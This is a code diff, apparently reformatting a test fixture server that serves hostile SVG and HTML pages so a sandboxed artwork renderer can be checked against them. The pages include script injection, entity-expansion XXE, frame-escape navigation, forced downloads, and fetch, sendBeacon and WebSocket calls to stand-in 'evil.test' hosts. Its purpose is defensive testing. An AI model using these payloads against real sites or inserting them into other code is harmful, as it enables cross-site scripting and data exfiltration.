@@ -12,20 +12,38 @@ const art = (script: string) =>
 const pages: Partial<Record<Behaviour, string>> = {
   'svg-script.svg': svg('<script>globalThis.pwned=1;parent.pwned=1</script>'),
   'svg-onload.svg': svg('<image href="x" onerror="parent.pwned=1"/>', 'onload="parent.pwned=1"'),
-  'svg-foreign-object.svg': svg('<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://svg.evil.test/frame"/></foreignObject>'),
+  'svg-foreign-object.svg': svg(
+    '<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://svg.evil.test/frame"/></foreignObject>',
+  ),
   'svg-image.svg': svg('<image href="http://svg.evil.test/inner.png" width="9" height="9"/>'),
-  'svg-style-import.svg': svg('<style>@import url(http://svg.evil.test/x.css); svg { background: url(http://svg.evil.test/y.png) }</style>'),
+  'svg-style-import.svg': svg(
+    '<style>@import url(http://svg.evil.test/x.css); svg { background: url(http://svg.evil.test/y.png) }</style>',
+  ),
   'svg-use.svg': svg('<use href="http://svg.evil.test/x.svg#a"/>'),
   'svg-entities.svg': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "http://svg.evil.test/entity">]>${svg('<text>&c;&x;</text>')}`,
   'svg-stylesheet.svg': `<?xml-stylesheet href="http://svg.evil.test/sheet.css"?>${svg('')}`,
-  'art-escape.html': art('attempt(() => { top.location = "http://nav.evil.test/" }); attempt(() => { parent.document.body.remove() })'),
-  'art-popup.html': art('attempt(() => open("http://popup.evil.test/")); attempt(() => { const a = document.createElement("a"); a.href = "http://popup.evil.test/"; a.target = "_blank"; a.click() })'),
-  'art-dialog.html': art('attempt(() => alert(1)); attempt(() => confirm(1)); attempt(() => prompt(1)); attempt(() => print())'),
-  'art-form.html': art('attempt(() => { const f = document.createElement("form"); f.action = "http://form.evil.test/"; f.target = "_top"; document.documentElement.append(f); f.submit() })'),
-  'art-download.html': art('attempt(() => { const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.exe"; a.click() })'),
+  'art-escape.html': art(
+    'attempt(() => { top.location = "http://nav.evil.test/" }); attempt(() => { parent.document.body.remove() })',
+  ),
+  'art-popup.html': art(
+    'attempt(() => open("http://popup.evil.test/")); attempt(() => { const a = document.createElement("a"); a.href = "http://popup.evil.test/"; a.target = "_blank"; a.click() })',
+  ),
+  'art-dialog.html': art(
+    'attempt(() => alert(1)); attempt(() => confirm(1)); attempt(() => prompt(1)); attempt(() => print())',
+  ),
+  'art-form.html': art(
+    'attempt(() => { const f = document.createElement("form"); f.action = "http://form.evil.test/"; f.target = "_top"; document.documentElement.append(f); f.submit() })',
+  ),
+  'art-download.html': art(
+    'attempt(() => { const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.exe"; a.click() })',
+  ),
   'art-message.html': art('setInterval(() => parent.postMessage({ type: "tonlens", pwned: 1 }, "*"), 5)'),
-  'art-storage.html': art('attempt(() => localStorage.setItem("pwned", "1")); attempt(() => { document.cookie = "pwned=1" })'),
-  'art-fetch.html': art('attempt(() => fetch("http://art.evil.test/fetch").catch(() => {})); attempt(() => { new Image().src = "http://art.evil.test/image" }); attempt(() => navigator.sendBeacon("http://art.evil.test/beacon")); attempt(() => { location = "http://art.evil.test/go" }); attempt(() => new WebSocket("ws://art.evil.test/"))'),
+  'art-storage.html': art(
+    'attempt(() => localStorage.setItem("pwned", "1")); attempt(() => { document.cookie = "pwned=1" })',
+  ),
+  'art-fetch.html': art(
+    'attempt(() => fetch("http://art.evil.test/fetch").catch(() => {})); attempt(() => { new Image().src = "http://art.evil.test/image" }); attempt(() => navigator.sendBeacon("http://art.evil.test/beacon")); attempt(() => { location = "http://art.evil.test/go" }); attempt(() => new WebSocket("ws://art.evil.test/"))',
+  ),
   'image-as-html.html': '<!doctype html><script>try { parent.pwned=1 } catch {}</script>',
 }
 
@@ -57,7 +75,8 @@ function answer(path: Behaviour, url: string, response: ServerResponse): void {
     send(response, 302, 'text/plain', '')
   }
   // The guide on security asks this of proxies: what a page asks for by itself no other page can stop.
-  if (path === 'art-fetch.html') response.setHeader('content-security-policy', "default-src 'unsafe-inline' data: blob:")
+  if (path === 'art-fetch.html')
+    response.setHeader('content-security-policy', "default-src 'unsafe-inline' data: blob:")
   if (page !== undefined) return send(response, 200, path.endsWith('.svg') ? 'image/svg+xml' : 'text/html', page)
   switch (path) {
     case 'html-as-image.png':
